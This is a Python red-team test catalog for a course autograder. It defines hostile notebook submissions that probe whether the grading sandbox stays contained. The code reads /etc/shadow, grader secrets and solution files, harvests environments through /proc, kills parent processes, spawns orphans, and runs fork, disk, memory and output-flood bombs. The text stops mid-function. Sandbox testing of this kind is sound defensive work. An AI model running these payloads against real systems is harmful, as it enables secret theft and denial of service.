"""Red-team catalog: hostile student submissions of lecture 04 for `bplab grade`.

Every attack is one submission (student id ``attack-<slug>``). Code attacks carry the honest
*wrong* control's answers (``dense_backward`` = catalog variant ``dW-transposed``, ``model_backward``
= the independent ``derivative-from-cached-output``) with hostile code around the ``dense_backward``
answer: so any point won on ``dense_backward`` is a point the attack stole. Notebook-JSON attacks
start from the same notebook and mangle its JSON.

An attack's code starts with PREAMBLE: the harness constants ``_RT`` (filled in per batch by
``render``: the test's pid, listener ports, canary paths, the host's pid namespace...) and the
ways to report success. ``_rt_report(tag, detail)`` prints an evidence line (its marker is only
assembled at run time, so that printing a source file never forges one), writes a
file into the host evidence folder, and connects to the test's TCP/unix listeners: any channel
that works is itself a breach, and the test finds it.

Safety on a shared machine: attacks that would hurt the host if the sandbox were missing
(``kill(-1)``, ``kill(1)``, killing every ancestor) fire only when the process is certainly in a
pid namespace of its own (``_rt_host_pidns() is False``); otherwise they report the breach and
send a harmless real-time signal to the test process instead. Resource bombs are bounded (a few
GiB, a few hundred processes, 1.5 GiB of disk per folder) so that a missing limit shows up as a
failure, not as a dead machine. Nothing ever connects to a port the test did not name.

Assertion keys (``Attack.checks``):
- ``points``: no test of the target exercise scores more than in the honest wrong control, none
  elsewhere more than in the honest correct control; max scores unchanged; the grader did not fail;
- ``secrets``: no canary, course secret, evidence line or hidden-test line in its graded notebook
  or feedback page;
- ``outside``: no evidence file, listener message, signal or file named after it on the host;
- ``processes``: no process carrying its marker survives the batch.
"""
from __future__ import annotations

import copy
import json
import random
from dataclasses import dataclass
from textwrap import dedent
from typing import Callable

from catalog_helpers import catalog

LECTURE = "04-backprop"
CATALOG = catalog(LECTURE)


def _variant(exercise, name):
    (found,) = [v for v in CATALOG.VARIANTS if v.exercise == exercise and v.name == name]
    return found


WRONG_DENSE = _variant("dense_backward", "dW-transposed")
INDEPENDENT_MODEL_BACKWARD = _variant("model_backward", "derivative-from-cached-output")
TARGET = "dense_backward"   # the exercise every code attack rides on

# assertion keys
POINTS, SECRETS, OUTSIDE, PROCESSES = "points", "secrets", "outside", "processes"
CODE_CHECKS = frozenset({POINTS, SECRETS, OUTSIDE})
SPAWN_CHECKS = CODE_CHECKS | {PROCESSES}
JSON_CHECKS = frozenset({POINTS, SECRETS})
# a wrong dense_backward, whatever the cheat did; a cheat that runs the reference instead is forbidden-call
CHEAT = frozenset({"transposed", "tampering", "forbidden-call"})
FORBIDDEN = frozenset({"forbidden-call"})
DIED = frozenset({"crash", "timeout"})


def wrong_control_answers():
    """The honest wrong control: correct answers except dense_backward (transposed dW) and an
    independent model_backward (so that only dense_backward can lose points)."""
    answers = dict(CATALOG.ANSWERS)
    answers[WRONG_DENSE.exercise] = WRONG_DENSE.source
    answers[INDEPENDENT_MODEL_BACKWARD.exercise] = INDEPENDENT_MODEL_BACKWARD.source
    return answers


@dataclass(frozen=True)
class Attack:
    """One hostile submission: what it targets, its code or JSON mutator, and what is asserted."""
    slug: str
    targets: str                      # what it goes after
    doc: str                          # one line: what it tries (the registering function's docstring)
    prefix: str = ""                  # hostile code before the (wrong) dense_backward definition
    body: str | None = None           # a hostile dense_backward (default: the wrong dW-transposed one)
    suffix: str = ""                  # hostile code after the definition
    mutate: Callable | None = None    # notebook-JSON attack: (NotebookNode, Context) -> NotebookNode | str | bytes
    checks: frozenset = CODE_CHECKS   # assertion keys that apply
    diagnoses: frozenset | None = None  # allowed diagnoses of the target's tests (None: not asserted)
    flagged: bool | None = None       # None: not asserted
    rtsig: int = 0                    # offset from SIGRTMIN of the signal it may send the test (0: none)

    @property
    def student(self):
        return f"attack-{self.slug}"

    @property
    def marker(self):
        return "bplab-orphan-{run}-" + self.slug

    def answers(self, ctx):
        """The answer sources of this attack's notebook (dict exercise -> source)."""
        answers = wrong_control_answers()
        if self.mutate is None or self.prefix or self.body or self.suffix:
            dense = self.body if self.body is not None else answers[TARGET]
            answers[TARGET] = render(PREAMBLE, ctx, self) + "\n" + dedent(self.prefix) + "\n" + dedent(dense) + \
                "\n" + dedent(self.suffix)
        return answers


@dataclass
class Context:
    """What a batch tells its attacks (paths and ports only: never a canary's value)."""
    run: str
    test_pid: int
    port: int
    udp_port: int
    unix_socket: str
    abstract_socket: str
    evidence: str
    workspace: str
    repo: str
    submissions: str
    beside: str
    host_canary: str
    host_pidns: str
    rtmin: int
    extra_ports: tuple = (8786, 8787, 8888)


def render(template, ctx, attack):
    """``template`` with ``@RT@`` replaced by the attack's harness constants."""
    constants = {"slug": attack.slug, "run": ctx.run, "test_pid": ctx.test_pid, "port": ctx.port,
                 "udp": ctx.udp_port, "unix": ctx.unix_socket, "abstract": ctx.abstract_socket,
                 "evidence": ctx.evidence, "workspace": ctx.workspace, "repo": ctx.repo,
                 "submissions": ctx.submissions, "beside": ctx.beside, "host_canary": ctx.host_canary,
                 "host_pidns": ctx.host_pidns, "rtsig": ctx.rtmin + attack.rtsig if attack.rtsig else 0,
                 "marker": attack.marker.format(run=ctx.run), "extra_ports": list(ctx.extra_ports)}
    return dedent(template).replace("@RT@", repr(constants))


PREAMBLE = r'''
# ---- red team (tests/attack_catalog.py): harness constants and ways to report a breach ----
import os as _rt_os
_RT = @RT@


def _rt_report(tag, detail=""):
    """Leave evidence by every channel this process may have (each working channel is a breach)."""
    import socket
    line = "BPLAB-" + "EVIDENCE " + _RT["slug"] + " " + str(tag)
    detail = str(detail)[:3000]
    try:
        print(line, detail, flush=True)
    except BaseException:
        pass
    try:
        name = "%s--%s--%d" % (_RT["slug"], str(tag).replace("/", "_")[:60], _rt_os.getpid())
        with open(_rt_os.path.join(_RT["evidence"], name), "w") as f:
            f.write(line + "\n" + detail)
    except BaseException:
        pass
    for family, address in ((socket.AF_INET, ("127.0.0.1", _RT["port"])), (socket.AF_UNIX, _RT["unix"]),
                            (socket.AF_UNIX, "\0" + _RT["abstract"])):
        try:
            s = socket.socket(family, socket.SOCK_STREAM)
            s.settimeout(2)
            s.connect(address)
            s.sendall((line + " " + detail[:500]).encode())
            s.close()
        except BaseException:
            pass


def _rt_host_pidns():
    """True: this process shares the host's pid namespace; False: certainly its own; None: unknown."""
    try:
        return _rt_os.readlink("/proc/self/ns/pid") == _RT["host_pidns"]
    except OSError:
        pass
    try:
        _rt_os.kill(_RT["test_pid"], 0)
    except ProcessLookupError:
        return False      # the test process is alive: not seeing it means another namespace
    except OSError:
        return None
    return None


def _rt_read(path, limit=200000):
    """The bytes of ``path`` (printed), or None."""
    try:
        with open(path, "rb") as f:
            data = f.read(limit)
    except OSError as err:
        print("cannot read", path, type(err).__name__)
        return None
    print("READ", path, data.decode("latin-1"))
    return data


def _rt_listdir(path):
    try:
        names = sorted(_rt_os.listdir(path))
    except OSError as err:
        print("cannot list", path, type(err).__name__)
        return None
    print("LIST", path, names)
    return names


def _rt_reference(name="dense_backward"):
    """A fresh copy of the library's reference implementation (the guard knows only the original)."""
    import types
    import backproplab.layers as lib
    f = getattr(lib, name)
    f = getattr(f, "__bplab_original__", f)
    return types.FunctionType(f.__code__, f.__globals__, f.__name__, f.__defaults__, f.__closure__)


_rt_notes = []


def _rt_note(*parts):
    """Keep a line for the next answer cell's output (prints inside a graded call are discarded)."""
    _rt_notes.append(" ".join(str(p) for p in parts))


def _rt_flush_notes(info=None):
    if _rt_notes and "check(" not in (getattr(info, "raw_cell", "") or ""):
        print("RT-NOTE", " / ".join(_rt_notes))
        del _rt_notes[:]


try:
    get_ipython().events.register("pre_run_cell", _rt_flush_notes)
except NameError:
    pass


def _rt_once(tag):
    key = "_rt_fired_" + tag
    if globals().get(key):
        return False
    globals()[key] = True
    return True


def _rt_hang_again(tag, limit=1):
    """Whether to hang once more: at most ``limit`` times per submission, counted in the sandbox's /tmp (the
    globals go with each killed kernel). One hang shows the kill and the cells after it; each more costs the
    suite a cell timeout and proves nothing new."""
    path = _rt_os.path.join(_rt_os.environ.get("TMPDIR", "/tmp"), "_rt_hangs_" + tag)
    try:
        with open(path) as f:
            count = int(f.read() or 0)
    except (OSError, ValueError):
        count = 0
    if count >= limit:
        return False
    with open(path, "w") as f:
        f.write(str(count + 1))
    return True


def _rt_detach(argv, keep_fds=None):
    """Double fork + setsid: ``argv`` exec'd in a grandchild no one waits for (an orphan)."""
    pid = _rt_os.fork()
    if pid == 0:
        try:
            _rt_os.setsid()
            if _rt_os.fork() == 0:
                null = _rt_os.open("/dev/null", _rt_os.O_RDWR)
                for target, fd in enumerate(keep_fds or [null, null, null]):
                    _rt_os.dup2(fd, target)
                _rt_os.closerange(3, 65536)
                _rt_os.execv(argv[0], argv[1:])
        finally:
            _rt_os._exit(0)
    _rt_os.waitpid(pid, 0)
# ---- end of the harness ----
'''

ATTACKS: list[Attack] = []


def attack(slug, targets, **kw):
    """Register the attack built by the decorated function (its docstring: what the attack tries)."""
    def register(fn):
        parts = fn()
        ATTACKS.append(Attack(slug, targets, doc=" ".join(fn.__doc__.split()), **parts, **kw))
        return fn
    return register


# =============================================================== the file system

@attack("read-workspace", "the workspace: gradebook.db, .bplab-secret, canary.txt, graded notebooks")
def _():
    """Reads and prints the workspace's gradebook, course secret, canary and other graded notebooks."""
    return dict(prefix=r'''
        import glob
        _ws = _RT["workspace"]
        for _p in [_ws + "/gradebook.db", _ws + "/.bplab-secret", _ws + "/canary.txt", _ws + "/nbgrader_config.py"] \
                + glob.glob(_ws + "/autograded/*/*/*.ipynb")[:5] + glob.glob(_ws + "/.bplab/*/*")[:3]:
            if _rt_read(_p):
                _rt_report("read", _p)
        if _rt_listdir(_ws):
            _rt_report("list", _ws)
        ''')


@attack("read-solutions-and-git", "the repository: solutions/, .git, autograder/, tests/")
def _():
    """Reads the instructor's solution notebook, the repository's .git and its default workspace."""
    return dict(prefix=r'''
        import glob
        _repo = _RT["repo"]
        for _p in [_repo + "/solutions/04-backprop/backprop.ipynb", _repo + "/.git/HEAD", _repo + "/.git/config",
                   _repo + "/pyproject.toml", _repo + "/autograder/.bplab-secret", _repo + "/autograder/gradebook.db"] \
                + glob.glob(_repo + "/.git/refs/heads/*") + glob.glob(_repo + "/tests/*.py")[:3]:
            if _rt_read(_p, 50000):
                _rt_report("read", _p)
        _names = _rt_listdir(_repo) or []
        if set(_names) & {"solutions", ".git", "autograder", "course", "tests", "pyproject.toml"}:
            _rt_report("list", _names)
        ''')


@attack("read-host-private", "the host: /etc/shadow, /root, /home, the root directory")
def _():
    """Reads /etc/shadow and lists /root, /home and / looking for the host's files."""
    return dict(prefix=r'''
        if _rt_read("/etc/shadow"):
            _rt_report("read", "/etc/shadow")
        for _p in ("/root/.bashrc", "/root/.gitconfig", "/etc/hostname"):
            _rt_read(_p)
        import sys
        _needed = [sys.base_prefix, sys.prefix, _rt_os.path.dirname(__import__("backproplab").__file__)]
        for _d in ("/root", "/home"):
            _allowed = {p[len(_d) + 1:].split("/")[0] for p in _needed if p.startswith(_d + "/")}
            _extra = set(_rt_listdir(_d) or []) - _allowed     # the Python installation may live there
            if _extra:
                _rt_report("list", "%s %s" % (_d, sorted(_extra)))
        _top = _rt_listdir("/") or []
        for _d in ("/tmp", "/work", "/var", "/srv", "/mnt", "/opt"):
            _rt_listdir(_d)
        for _p in (_RT["workspace"], _RT["submissions"], _RT["host_canary"], _RT["repo"] + "/.git"):
            if _rt_os.path.exists(_p):
                _rt_report("host-path-visible", _p)
        ''')


@attack("read-submissions", "its own notebook, other students' submissions, files beside them, the job folder")
def _():
    """Reads every notebook in the submissions folder (its own included), the files beside it, the job folder
    and the kernel's history."""
    return dict(prefix=r'''
        import glob, sys
        _sub = _RT["submissions"]
        for _p in sorted(glob.glob(_sub + "/**", recursive=True))[:400]:
            if not _rt_os.path.isfile(_p) or _p.endswith(".ipynb") and _rt_os.path.getsize(_p) > 5000000:
                continue
            if _rt_read(_p, 100000):
                _rt_report("read", _p)
        _beside = _rt_os.path.dirname(_RT["beside"])
        for _p in sorted(glob.glob(_beside + "/*"))[:50]:
            if _rt_os.path.isfile(_p) and _rt_read(_p, 100000):
                _rt_report("read", _p)
        if _rt_listdir(_sub):
            _rt_report("list", _sub)
        print("cwd", _rt_os.getcwd(), "argv", sys.argv)
        for _pattern in ("*.ipynb", "*/*.ipynb", "/job/*", _rt_os.path.expanduser("~") + "/*", "/tmp/*", "../*", "../../*"):
            for _p in sorted(glob.glob(_pattern))[:20]:
                if _rt_os.path.isfile(_p):
                    _rt_read(_p, 100000)
        print("ENV", dict(_rt_os.environ))
        try:
            print("HISTORY", get_ipython().user_ns.get("In"))
        except NameError:
            pass
        ''')


@attack("write-outside-scratch", "writes into the workspace, submissions, host /tmp, repository, /root, /etc, the Python install")
def _():
    """Creates and appends files in the workspace, beside the submissions, in host /tmp and probes the repository."""
    return dict(prefix=r'''
        import sys, sysconfig
        def _rt_create(path, keep):
            try:
                fd = _rt_os.open(path, _rt_os.O_WRONLY | _rt_os.O_CREAT | _rt_os.O_EXCL, 0o644)
            except OSError as err:
                print("cannot create", path, type(err).__name__)
                return
            _rt_os.write(fd, b"pwned by " + _RT["slug"].encode())
            _rt_os.close(fd)
            if not keep:        # a probe only: the repository and the host stay as they were
                _rt_os.unlink(path)
            _rt_report("created", path)
        _name = "bplab-pwned-" + _RT["run"] + "." + _RT["slug"]
        _ws = _RT["workspace"]
        # /tmp counts only when it is the host's (the evidence folder is there): the sandbox's own is fine
        _host_tmp = ["/tmp"] if _rt_os.path.isdir(_RT["evidence"]) else []
        for _d in [_ws, _ws + "/autograded", _ws + "/.bplab", _RT["submissions"], _rt_os.path.dirname(_RT["beside"])] + _host_tmp:
            _rt_create(_d + "/" + _name, keep=True)
        for _d in (_RT["repo"], _RT["repo"] + "/solutions/04-backprop", _RT["repo"] + "/.git", "/root", "/home", "/etc",
                   _rt_os.path.dirname(_rt_os.path.dirname(_rt_os.__file__)), sysconfig.get_paths()["purelib"],
                   _rt_os.path.dirname(__import__("backproplab").__file__)):
            _rt_create(_d + "/" + _name + ".txt", keep=False)
        _rt_create(_RT["submissions"] + "/zz-" + _name + ".ipynb", keep=True)
        for _p in (_ws + "/canary.txt", _RT["beside"], _RT["host_canary"], _ws + "/.bplab-secret"):
            try:
                with open(_p, "r+") as _f:        # never creates: only the host's files count
                    _f.seek(0, 2)
                    _f.write("\npwned by " + _RT["slug"])
                _rt_report("appended", _p)
            except OSError as err:
                print("cannot append", _p, type(err).__name__)
        try:
            with open(_ws + "/gradebook.db", "r+b"):
                _rt_report("gradebook-writable", _ws + "/gradebook.db")
        except OSError as err:
            print("gradebook", type(err).__name__)
        ''')


# =============================================================== /proc

@attack("proc-parent-cwd", "/proc/<ppid>/cwd and /proc/<ppid>/root: the grader's working folder")
def _():
    """Lists and reads the parent's (and each ancestor's) working folder through /proc."""
    return dict(prefix=r'''
        _pid = _rt_os.getppid()
        for _ in range(12):
            if _pid <= 0:
                break
            for _link in ("cwd", "root", "exe"):
                try:
                    print(_pid, _link, _rt_os.readlink("/proc/%d/%s" % (_pid, _link)))
                except OSError as err:
                    print(_pid, _link, type(err).__name__)
            _names = _rt_listdir("/proc/%d/cwd" % _pid) or []
            if set(_names) & {"gradebook.db", "nbgrader_config.py", ".bplab-secret", "submitted", "autograded"}:
                _rt_report("grader-cwd", "%d %s" % (_pid, _names))
                for _n in ("gradebook.db", "nbgrader_config.py", ".bplab-secret"):
                    _rt_read("/proc/%d/cwd/%s" % (_pid, _n), 20000)
            try:
                with open("/proc/%d/status" % _pid) as _f:
                    _pid = int([l for l in _f if l.startswith("PPid:")][0].split()[1])
            except (OSError, IndexError, ValueError):
                break
        ''')


@attack("proc-1-root", "/proc/1/root and /proc/1/cwd: the host's root file system through init")
def _():
    """Lists /proc/1/root and reads the workspace canary and secret through it."""
    return dict(prefix=r'''
        _names = _rt_listdir("/proc/1/root") or []
        _rt_listdir("/proc/1/cwd")
        for _p in (_RT["workspace"] + "/canary.txt", _RT["workspace"] + "/.bplab-secret", _RT["host_canary"],
                   _RT["repo"] + "/.git/HEAD", "/etc/shadow"):
            if _rt_read("/proc/1/root" + _p):
                _rt_report("read-through-init", _p)
        ''')


@attack("proc-walk-all-pids", "every /proc/<pid>: environ (BPLAB_CANARY), cmdline, fds, cwd, root, status")
def _():
    """Walks every pid: environ, cmdline, status, cwd/root/exe links, open files, canaries through /proc/<pid>/root."""
    return dict(prefix=r'''
        print("OWN", dict(_rt_os.environ))
        _hits = []
        for _p in sorted(_rt_os.listdir("/proc")):
            if not _p.isdigit():
                continue
            try:
                with open("/proc/%s/environ" % _p, "rb") as _f:
                    _env = _f.read(200000)
                print(_p, "environ", _env.replace(b"\0", b" ").decode("latin-1"))
                if b"BPLAB_CANARY" in _env:
                    _hits.append((_p, "grader environment"))
            except OSError:
                pass
            try:
                with open("/proc/%s/cmdline" % _p, "rb") as _f:
                    _cmd = _f.read(20000).replace(b"\0", b" ").decode("latin-1")
                print(_p, "cmdline", _cmd)
                if any(w in _cmd for w in ("pytest", "backproplab.cli", "nbgrader", "distributed", _RT["workspace"],
                                           _RT["submissions"])):
                    _hits.append((_p, _cmd[:300]))
            except OSError:
                pass
            _links = {}
            for _link in ("cwd", "root", "exe"):
                try:
                    _links[_link] = _rt_os.readlink("/proc/%s/%s" % (_p, _link))
                except OSError:
                    pass
            try:
                _fds = [_rt_os.readlink("/proc/%s/fd/%s" % (_p, fd)) for fd in _rt_os.listdir("/proc/%s/fd" % _p)]
            except OSError:
                _fds = []
            try:
                with open("/proc/%s/status" % _p) as _f:
                    _status = " ".join(l.strip() for l in _f if l.startswith(("Name", "Uid", "PPid")))
            except OSError:
                _status = "?"
            print(_p, _status, _links, _fds[:40])
            for _target in list(_links.values()) + _fds:
                if _target.startswith((_RT["workspace"], _RT["submissions"], _RT["repo"] + "/solutions")):
                    _hits.append((_p, _target))
            for _c in (_RT["workspace"] + "/canary.txt", _RT["host_canary"]):
                if _rt_read("/proc/%s/root%s" % (_p, _c), 2000):
                    _hits.append((_p, _c))
        if _hits:
            _rt_report("host-through-proc", _hits[:50])
        ''')


# =============================================================== the network

@attack("tcp-loopback", "TCP on the host's 127.0.0.1: the test's listener and Jupyter/Dask ports 8786, 8787, 8888")
def _():
    """Connects to the test's own TCP listener and to 127.0.0.1:8786/8787/8888, sending a message or an HTTP request."""
    return dict(prefix=r'''
        import socket
        for _port in [_RT["port"]] + _RT["extra_ports"]:
            try:
                _s = socket.create_connection(("127.0.0.1", _port), timeout=3)
            except OSError as err:
                print("tcp", _port, type(err).__name__)
                continue
            try:
                _s.sendall(b"GET /api/kernels HTTP/1.0\r\nX-Attack: " + _RT["slug"].encode() + b"\r\n\r\n")
                _s.settimeout(2)
                print(_port, _s.recv(2000))
            except OSError:
                pass
            _s.close()
            _rt_report("tcp-connected", _port)
        ''')


@attack("udp-and-unix-sockets", "UDP to the test's receiver; the test's unix socket in host /tmp and its abstract socket")
def _():
    """Sends UDP datagrams to the test's receiver and connects to its path and abstract unix sockets."""
    return dict(prefix=r'''
        import socket
        _u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for _i in range(5):
            try:
                _u.sendto(("udp from " + _RT["slug"]).encode(), ("127.0.0.1", _RT["udp"]))
            except OSError as err:
                print("udp", type(err).__name__)
        _u.close()
        for _address in (_RT["unix"], "\0" + _RT["abstract"]):
            try:
                _s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                _s.settimeout(3)
                _s.connect(_address)
                _s.sendall(("unix from " + _RT["slug"]).encode())
                _s.close()
                _rt_report("unix-connected", repr(_address))
            except OSError as err:
                print("unix", repr(_address), type(err).__name__)
        ''')


@attack("dns-lookup", "name resolution (the host's resolver, the internet)")
def _():
    """Resolves pypi.org, example.com and github.com."""
    return dict(prefix=r'''
        import socket
        for _host in ("pypi.org", "example.com", "github.com"):
            try:
                _addrs = sorted({i[4][0] for i in socket.getaddrinfo(_host, 443, proto=socket.IPPROTO_TCP)})
            except OSError as err:
                print(_host, type(err).__name__, err)
                continue
            print(_host, _addrs)
            if any(not a.startswith("127.") and a != "::1" for a in _addrs):
                _rt_report("resolved", "%s %s" % (_host, _addrs))
        ''')


# =============================================================== signals

@attack("kill-parent-chain-and-group", "the processes above the student's code and its own process group")
def _():
    """SIGKILLs its parent (every ancestor when certainly in a pid namespace of its own), then killpg(0, SIGKILL)."""
    return dict(prefix=r'''
        import signal
        _chain, _pid = [], _rt_os.getppid()
        while _pid > 1 and len(_chain) < 20:
            _chain.append(_pid)
            try:
                with open("/proc/%d/status" % _pid) as _f:
                    _pid = int([l for l in _f if l.startswith("PPid:")][0].split()[1])
            except (OSError, IndexError, ValueError):
                break
        _shared = _rt_host_pidns()
        print("ancestors", _chain, "host pid namespace:", _shared, "pgid", _rt_os.getpgid(0), "sid", _rt_os.getsid(0))
        for _pid in (_chain if _shared is False else _chain[:1]):   # on the host: only the direct parent
            try:
                _rt_os.kill(_pid, signal.SIGKILL)
            except OSError as err:
                print("kill", _pid, type(err).__name__)
        try:
            _rt_os.killpg(0, signal.SIGKILL)
        except OSError as err:
            print("killpg", type(err).__name__)
        ''')


@attack("kill-all", "every process the sandbox may signal: kill(-1, SIGKILL)", rtsig=1)
def _():
    """kill(-1, SIGKILL) inside its own pid namespace; on the host's, reports it and signals the test."""
    return dict(prefix=r'''
        import signal
        if _rt_host_pidns() is False:
            try:
                _rt_os.kill(-1, signal.SIGKILL)
            except OSError as err:
                print("kill -1", type(err).__name__)
        else:
            _rt_report("host-pid-namespace", "kill(-1, SIGKILL) would reach the host's processes")
            try:
                _rt_os.kill(_RT["test_pid"], _RT["rtsig"])
            except OSError as err:
                print("probe", type(err).__name__)
        ''')


@attack("kill-pid-1", "pid 1 (the sandbox's init, or the host's)", rtsig=2)
def _():
    """Sends SIGTERM/SIGINT/SIGKILL to pid 1 inside its own pid namespace; on the host's, reports it."""
    return dict(prefix=r'''
        import signal
        if _rt_host_pidns() is False:
            for _sig in (signal.SIGTERM, signal.SIGINT, signal.SIGKILL):
                try:
                    _rt_os.kill(1, _sig)
                except OSError as err:
                    print("kill 1", _sig, type(err).__name__)
        else:
            _rt_report("host-pid-namespace", "pid 1 is the host's init")
            try:
                _rt_os.kill(_RT["test_pid"], _RT["rtsig"])
            except OSError as err:
                print("probe", type(err).__name__)
        ''')


@attack("signal-test-process", "the test's own process (pid passed in): SIGUSR1, SIGUSR2, SIGHUP, SIGTERM", rtsig=3)
def _():
    """Sends SIGUSR1, SIGUSR2, SIGHUP, SIGTERM and a real-time signal to the test process's pid."""
    return dict(prefix=r'''
        import signal
        for _sig in (signal.SIGUSR1, signal.SIGUSR2, signal.SIGHUP, signal.SIGTERM, _RT["rtsig"]):
            try:
                _rt_os.kill(_RT["test_pid"], _sig)
                print("sent", _sig)
            except OSError as err:
                print("signal", _sig, type(err).__name__)
        ''')


# =============================================================== processes that outlive the grading

@attack("orphans", "process lifetime: a double-forked setsid'd sleep, a new-session daemon, a nohup'd sleeper",
        checks=SPAWN_CHECKS)
def _():
    """Double-forks a setsid'd `sleep 10000`, starts a Python daemon ignoring SIGHUP/INT/TERM and a nohup'd
    sleeper, all marked."""
    return dict(prefix=r'''
        import subprocess, sys
        _rt_detach(["/bin/sleep", _RT["marker"] + "-double-fork", "10000"])
        _code = "import signal, time\nfor s in (1, 2, 15):\n    signal.signal(s, signal.SIG_IGN)\ntime.sleep(10000)"
        try:
            subprocess.Popen([sys.executable, "-c", _code, _RT["marker"] + "-daemon"], start_new_session=True,
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except OSError as err:
            print("daemon", err)
        _sleeper = "import os; os.execv('/bin/sleep', ['%s-nohup', '10000'])" % _RT["marker"]
        try:
            subprocess.run(["/bin/sh", "-c", 'nohup "$0" -c "$1" >/dev/null 2>&1 &', sys.executable, _sleeper],
                           timeout=10, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except (OSError, subprocess.SubprocessError) as err:
            print("nohup", err)
        print("orphans started")
        ''')


@attack("orphan-holding-grader-pipe", "the grader's output pipe: an orphan holding the parent's stdout/stderr open",
        checks=SPAWN_CHECKS)
def _():
    """Reopens its parent's stdout/stderr through /proc and hands them to a detached marked sleeper."""
    return dict(prefix=r'''
        _fds = []
        for _n in (0, 1, 2):
            try:
                _fds.append(_rt_os.open("/proc/%d/fd/%d" % (_rt_os.getppid(), _n), _rt_os.O_RDWR if _n == 0 else _rt_os.O_WRONLY))
            except OSError as err:
                print("cannot reopen the parent's fd", _n, type(err).__name__)
                _fds.append(_rt_os.open("/dev/null", _rt_os.O_RDWR))
        _rt_detach(["/bin/sleep", _RT["marker"] + "-pipe", "10000"], keep_fds=_fds)
        ''')


@attack("setsid-setpgid-escape", "group kills: the kernel leaves its process group/session, a child its group",
        checks=SPAWN_CHECKS)
def _():
    """Calls os.setpgid/os.setsid in the kernel, then starts a marked child in a process group of its own."""
    return dict(prefix=r'''
        import subprocess, sys
        for _call in (lambda: _rt_os.setpgid(0, 0), _rt_os.setsid):
            try:
                _call()
                print("left its group/session")
            except OSError as err:
                print(type(err).__name__)
        _code = "import signal, time\nfor s in (1, 2, 15):\n    signal.signal(s, signal.SIG_IGN)\ntime.sleep(10000)"
        try:
            subprocess.Popen([sys.executable, "-c", _code, _RT["marker"]], preexec_fn=lambda: _rt_os.setpgid(0, 0),
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except OSError as err:
            print("child", err)
        ''')


# =============================================================== resources and crashes

_WRONG_RETURN = """\
    m = A_prev.shape[0]
    return dz @ W, A_prev.T @ dz / m, dz.sum(axis=0, keepdims=True) / m
"""


def _hostile_body(code):
    """A dense_backward that runs ``code`` (indented 4) on its first call, then returns the wrong answer."""
    return "def dense_backward(dz, A_prev, W):\n" + code + _WRONG_RETURN


@attack("fork-bomb", "the process limit: os.fork until it fails (at most 600), children sleep", checks=SPAWN_CHECKS)
def _():
    """Forks up to 600 children that exec a marked `sleep 10000`, keeping the kernel's file descriptors."""
    return dict(body=_hostile_body(r'''
    if _rt_once("fork"):
        _n = 0
        try:
            for _ in range(600):
                if _rt_os.fork() == 0:
                    try:
                        _rt_os.execv("/bin/sleep", [_RT["marker"] + "-fork", "10000"])
                    finally:
                        _rt_os._exit(0)
                _n += 1
        except OSError as err:
            _rt_note("fork stopped after", _n, type(err).__name__)
'''))


@attack("thread-and-fd-bomb", "thread/process and open-file limits: 5000 threads, then 100000 open files")
def _():
    """Starts up to 5000 sleeping threads with small stacks, then opens /dev/null until EMFILE (at most 100000)."""
    return dict(body=_hostile_body(r'''
    if _rt_once("threads"):
        import threading, time
        threading.stack_size(256 * 1024)
        _n = 0
        try:
            for _ in range(5000):
                threading.Thread(target=time.sleep, args=(10000,), daemon=True).start()
                _n += 1
        except (RuntimeError, MemoryError) as err:
            _rt_note("threads stopped after", _n, err)
        _held = globals().setdefault("_rt_held", [])
        try:
            for _ in range(100000):
                _held.append(_rt_os.open("/dev/null", _rt_os.O_RDONLY))
        except OSError as err:
            _rt_note("open stopped after", len(_held), type(err).__name__)
'''))


@attack("disk-fill", "scratch size and file-size limits: HOME, /tmp, /scratch, cwd (at most 1.5 GiB each)")
def _():
    """Writes 32 MiB files into HOME, /tmp, /scratch, cwd and TMPDIR until an error (1.5 GiB per folder)."""
    return dict(body=_hostile_body(r'''
    if _rt_once("disk"):
        import tempfile
        _chunk = b"D" * (1 << 20)
        _seen = set()
        for _d in (_rt_os.path.expanduser("~"), "/tmp", "/scratch", _rt_os.getcwd(), tempfile.gettempdir()):
            _real = _rt_os.path.realpath(_d)
            if _real in _seen or not _rt_os.path.isdir(_real):
                continue
            _seen.add(_real)
            _mib = 0
            try:
                for _i in range(48):
                    with open(_rt_os.path.join(_real, "bplab-fill-%s-%d-%d" % (_RT["run"], _rt_os.getpid(), _i)), "wb") as _f:
                        for _ in range(32):
                            _f.write(_chunk)
                            _mib += 1
            except OSError as err:
                _rt_note("disk", _real, type(err).__name__)
            _rt_note("wrote", _mib, "MiB into", _real)
'''))


@attack("output-flood", "output caps: print 200 MB, 100 MB of display data, os.write to fds 1/2 and the parent's stdout")
def _():
    """Prints 200 MB, displays 100 MB of HTML, writes 100 MB to fds 1 and 2 and up to 100 MB into its parent's stdout."""
    return dict(prefix=r'''
        import sys, time
        _line = "P" * (1 << 20)
        for _i in range(200):
            print(_line, file=sys.stderr if _i % 2 else sys.stdout)
        try:
            from IPython.display import display
            for _ in range(20):
                display({"text/html": "<b>" + "H" * (5 << 20) + "</b>", "text/plain": "flood"}, raw=True)
        except Exception as err:
            print("display", err)
        _chunk = b"F" * (1 << 20)
        for _fd in (1, 2):
            for _ in range(50):
                try:
                    _rt_os.write(_fd, _chunk)
                except OSError:
                    break
        for _n in (1, 2):
            try:
                _fd = _rt_os.open("/proc/%d/fd/%d" % (_rt_os.getppid(), _n), _rt_os.O_WRONLY | _rt_os.O_NONBLOCK)
            except OSError as err:
                print("parent fd", _n, type(err).__name__)
                continue
            _end, _sent = time.monotonic() + 8, 0
            while _sent < (100 << 20) and time.monotonic() < _end:
                try:
                    _sent += _rt_os.write(_fd, b'{"index": 0, "garbage": "' + _chunk + b'"}\n')
                except BlockingIOError:
                    time.sleep(0.01)
                except OSError:
                    break
            print("sent", _sent, "bytes into the parent's fd", _n)
        ''')


@attack("memory-bomb", "the memory limit: touch up to 4 GiB, then numpy arrays of 50 GiB and 3 GiB")
def _():
    """Allocates touched 100 MiB blocks until MemoryError (at most 4 GiB), then huge numpy arrays."""
    return dict(body=_hostile_body(r'''
    if _rt_once("memory"):
        _blocks = []
        try:
            for _ in range(40):
                _blocks.append(b"\x01" * (100 << 20))
        except MemoryError:
            pass
        _rt_note("held", len(_blocks) * 100, "MiB")
        del _blocks
